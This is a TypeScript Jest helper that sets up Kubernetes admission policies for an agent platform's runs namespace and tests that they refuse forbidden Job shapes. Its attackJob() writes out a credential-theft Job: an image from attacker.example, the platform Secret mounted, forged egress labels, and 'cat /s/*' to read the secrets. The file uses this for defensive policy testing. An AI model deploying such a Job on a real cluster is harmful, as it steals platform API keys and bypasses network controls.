// The runs namespace's admission policies as one instance per test file
// (jest loads this module once per file): its own namespaces and policy
// names, the Jobs the platform builds, the attack, the forbidden shapes.
import fs from 'node:fs';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { ExecutionPlan } from '@internal/plugin-agents-common';
import {
  buildAgentJob,
  DEFAULT_PLATFORM_SECRET_NAME,
  EGRESS_CREDENTIAL_KEY,
  LABELS,
  PORTAL_NAMESPACE,
  RUN_SERVICE_ACCOUNT,
  RUNS_NAMESPACE,
  runSecretNameFor,
  TASK_SERVICE_ACCOUNT,
  TASKS_NAMESPACE,
} from '@internal/plugin-infra-control-plane-node';
import {
  startTestCluster,
  TEST_CLUSTER_START_TIMEOUT_MS,
  TestCluster,
} from '@internal/test-helpers';
import {
  BatchV1Api,
  CoreV1Api,
  KubeConfig,
  V1Job,
} from '@kubernetes/client-node';
import yaml from 'yaml';
import { makePlan, REPO_ROOT, waitFor } from './index';
import {
  apiRequest,
  instantiateManifests,
  loadManifests,
  serverSideApply,
} from './manifests';

export const ADMISSION_FILE = '15-runs-admission.yaml';
export const suffix = randomBytes(3).toString('hex');
export const NS = {
  portal: `adm-${suffix}-portal`,
  runs: `adm-${suffix}-runs`,
  tasks: `adm-${suffix}-tasks`,
};
export const shipped = loadManifests();
export const objects = instantiateManifests(
  shipped,
  {
    [PORTAL_NAMESPACE]: NS.portal,
    [RUNS_NAMESPACE]: NS.runs,
    [TASKS_NAMESPACE]: NS.tasks,
  },
  suffix,
);
export const policies = shipped.filter(
  o => o.kind === 'ValidatingAdmissionPolicy',
);

/** `policy` (short name) and the message of its validation `index`, as the apiserver says it. */
export function refusal(policy: string, index = 0): RegExp {
  const p = policies.find(
    o => o.metadata!.name === `agent-platform-runs-${policy}`,
  );
  if (!p) throw new Error(`no policy ${policy}`);
  const message: string = p.spec.validations[index].message;
  const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  return new RegExp(
    `ValidatingAdmissionPolicy '${escape(
      p.metadata!.name!,
    )}-${suffix}'.*denied request: ${escape(message)}`,
  );
}

/** What the apiserver answered to a refused call: its status code and message (the call resolving is no refusal). */
export const refused = (
  call: Promise<unknown>,
): Promise<{ created?: unknown; code?: number; message?: string }> =>
  call.then(
    created => ({ created }),
    (e: any) => ({
      code: e.code,
      message: String(JSON.parse(e.body ?? '{}').message),
    }),
  );

/** An execution plan of a catalog agent, as the product control plane makes one. */
export function planOf(dir: string): ExecutionPlan {
  const entity = yaml.parse(
    fs.readFileSync(
      path.join(REPO_ROOT, 'catalog/agents', dir, 'catalog-info.yaml'),
      'utf8',
    ),
  );
  const spec = entity.spec;
  return makePlan({
    agentRef: `agent:default/${entity.metadata.name}`,
    agentVersion: spec.version,
    image: spec.runtime.image,
    entrypoint: spec.runtime.entrypoint,
    tools: (spec.tools ?? []).map((name: string) =>
      name === 'http' ? { name, allowHosts: ['api.github.com'] } : { name },
    ),
    secrets: (spec.secrets ?? []).map((name: string) => ({
      name,
      source: 'platform' as const,
      ref: name,
    })),
    resources: {
      cpu: spec.resources?.cpu ?? '250m',
      memory: spec.resources?.memory ?? '128Mi',
      timeoutSeconds: spec.resources?.timeoutSeconds ?? 60,
    },
  });
}

/** The Job of a plan as the Kubernetes executor builds it (egress credential in the run Secret when http is granted). */
export function jobOf(plan: ExecutionPlan): V1Job {
  const http = plan.tools.some(t => t.name === 'http');
  return buildAgentJob(plan, {
    namespace: NS.runs,
    platformSecretName: DEFAULT_PLATFORM_SECRET_NAME,
    egressCredential: http
      ? {
          secretName: runSecretNameFor(plan.executionId, plan.attempt),
          key: EGRESS_CREDENTIAL_KEY,
        }
      : undefined,
  });
}

/** A Job using every grant: http (egress credential), llm, a platform secret. */
export function fullJob(): V1Job {
  return jobOf(
    makePlan({
      tools: [
        { name: 'http', allowHosts: ['api.github.com'] },
        { name: 'llm' },
      ],
      secrets: [
        { name: 'OPENAI_API_KEY', source: 'platform', ref: 'OPENAI_API_KEY' },
      ],
    }),
  );
}

export const podOf = (job: V1Job) => job.spec!.template.spec!;
export const agentOf = (job: V1Job) => podOf(job).containers[0];
export const setEnv = (job: V1Job, name: string, value: string) => {
  agentOf(job).env = [
    ...agentOf(job).env!.filter(e => e.name !== name),
    { name, value },
  ];
};

/** The attack of issue 18, verbatim: a foreign image, the platform Secret mounted, both reserved labels. */
export function attackJob(): V1Job {
  return {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'steal', namespace: NS.runs },
    spec: {
      template: {
        metadata: {
          labels: {
            [LABELS.egress]: 'allowed',
            [LABELS.platformApi]: 'allowed',
          },
        },
        spec: {
          restartPolicy: 'Never',
          securityContext: {
            runAsNonRoot: true,
            runAsUser: 10001,
            seccompProfile: { type: 'RuntimeDefault' },
          },
          containers: [
            {
              name: 'steal',
              image: 'attacker.example/steal:latest',
              command: ['sh', '-c', 'cat /s/*'],
              securityContext: {
                allowPrivilegeEscalation: false,
                capabilities: { drop: ['ALL'] },
              },
              volumeMounts: [{ name: 's', mountPath: '/s' }],
            },
          ],
          volumes: [
            { name: 's', secret: { secretName: DEFAULT_PLATFORM_SECRET_NAME } },
          ],
        },
      },
    },
  };
}

/** What a test file gets from {@link useAdmissionInstance}, filled in by its beforeAll. */
export interface AdmissionInstance {
  cluster: TestCluster;
  core: CoreV1Api;
  /** The portal's ServiceAccount (the run identity), by TokenRequest. */
  asPortal: KubeConfig;
  /** The task identity, by TokenRequest. */
  asTasks: KubeConfig;
  createJob(kc: KubeConfig, body: V1Job, dryRun?: 'All'): Promise<V1Job>;
  mutated(change: (job: V1Job) => void): V1Job;
}

/**
 * Applies this file's instance of the k8s/ manifests (namespaces and policy
 * names of its own), gets tokens of both identities, waits until every
 * policy is enforced, creates the platform Secret as an administrator; and
 * removes it all after the file.
 */
export function useAdmissionInstance(): AdmissionInstance {
  const ctx = {} as AdmissionInstance;
  let cluster: TestCluster;
  let core: CoreV1Api;
  let asPortal: KubeConfig;

  const tokenConfig = async (name: string) => {
    const token = await core.createNamespacedServiceAccountToken({
      name,
      namespace: NS.portal,
      body: { spec: { audiences: [], expirationSeconds: 3600 } } as any,
    });
    const kc = new KubeConfig();
    kc.loadFromClusterAndUser(
      { ...cluster.kubeConfig.getCurrentCluster()! },
      { name, token: token.status!.token },
    );
    return kc;
  };
  const createJob = (kc: KubeConfig, body: V1Job, dryRun?: 'All') =>
    kc.makeApiClient(BatchV1Api).createNamespacedJob({
      namespace: body.metadata!.namespace ?? NS.runs,
      body,
      dryRun,
    });

  beforeAll(async () => {
    cluster = await startTestCluster();
    core = cluster.kubeConfig.makeApiClient(CoreV1Api);
    for (const ns of objects.filter(o => o.kind === 'Namespace'))
      await serverSideApply(cluster.kubeConfig, ns);
    for (const obj of objects.filter(o => o.kind !== 'Namespace'))
      await serverSideApply(cluster.kubeConfig, obj);
    asPortal = await tokenConfig(RUN_SERVICE_ACCOUNT);
    Object.assign(ctx, {
      cluster,
      core,
      asPortal,
      asTasks: await tokenConfig(TASK_SERVICE_ACCOUNT),
      createJob,
      mutated,
    });
    // The policies are loaded by the apiserver asynchronously: wait until each refuses a shape of its own.
    const probes: Array<[string, () => Promise<unknown>]> = [
      ['identity', () => createJob(cluster.kubeConfig, fullJob(), 'All')],
      [
        'images',
        () =>
          createJob(
            asPortal,
            mutated(j => (agentOf(j).image = 'attacker.example/x:1')),
            'All',
          ),
      ],
      [
        'pod-secrets',
        () =>
          createJob(
            asPortal,
            mutated(j =>
              podOf(j).volumes!.push({
                name: 'p',
                secret: { secretName: DEFAULT_PLATFORM_SECRET_NAME },
              }),
            ),
            'All',
          ),
      ],
      [
        'hardening',
        () =>
          createJob(
            asPortal,
            mutated(j => (podOf(j).hostNetwork = true)),
            'All',
          ),
      ],
      [
        'reserved-labels',
        () =>
          createJob(
            asPortal,
            mutated(
              j => (j.spec!.template.metadata!.labels![LABELS.egress] = 'yes'),
            ),
            'All',
          ),
      ],
      [
        'secret-creation',
        () =>
          asPortal.makeApiClient(CoreV1Api).createNamespacedSecret({
            namespace: NS.runs,
            body: { metadata: { name: 'probe' } },
            dryRun: 'All',
          }),
      ],
    ];
    for (const [policy, probe] of probes) {
      await waitFor(
        () =>
          probe().then(
            () => false,
            e =>
              String(e.body).includes(
                `'agent-platform-runs-${policy}-${suffix}'`,
              ),
          ),
        `policy ${policy} to be enforced`,
        30_000,
      );
    }
    // The platform Secret, as an administrator creates it.
    await core.createNamespacedSecret({
      namespace: NS.runs,
      body: {
        metadata: { name: DEFAULT_PLATFORM_SECRET_NAME },
        stringData: { OPENAI_API_KEY: 'sk-platform' },
      },
    });
  }, TEST_CLUSTER_START_TIMEOUT_MS);

  afterAll(async () => {
    for (const o of objects.filter(
      x =>
        x.kind === 'ValidatingAdmissionPolicyBinding' ||
        x.kind === 'ValidatingAdmissionPolicy',
    )) {
      await apiRequest(
        cluster.kubeConfig,
        'DELETE',
        `/apis/admissionregistration.k8s.io/v1/${
          o.kind === 'ValidatingAdmissionPolicy'
            ? 'validatingadmissionpolicies'
            : 'validatingadmissionpolicybindings'
        }/${o.metadata!.name}`,
      ).catch(() => undefined);
    }
    for (const name of Object.values(NS))
      await core.deleteNamespace({ name }).catch(() => undefined);
  });

  function mutated(change: (job: V1Job) => void): V1Job {
    const job = fullJob();
    change(job);
    return job;
  }
  return ctx;
}
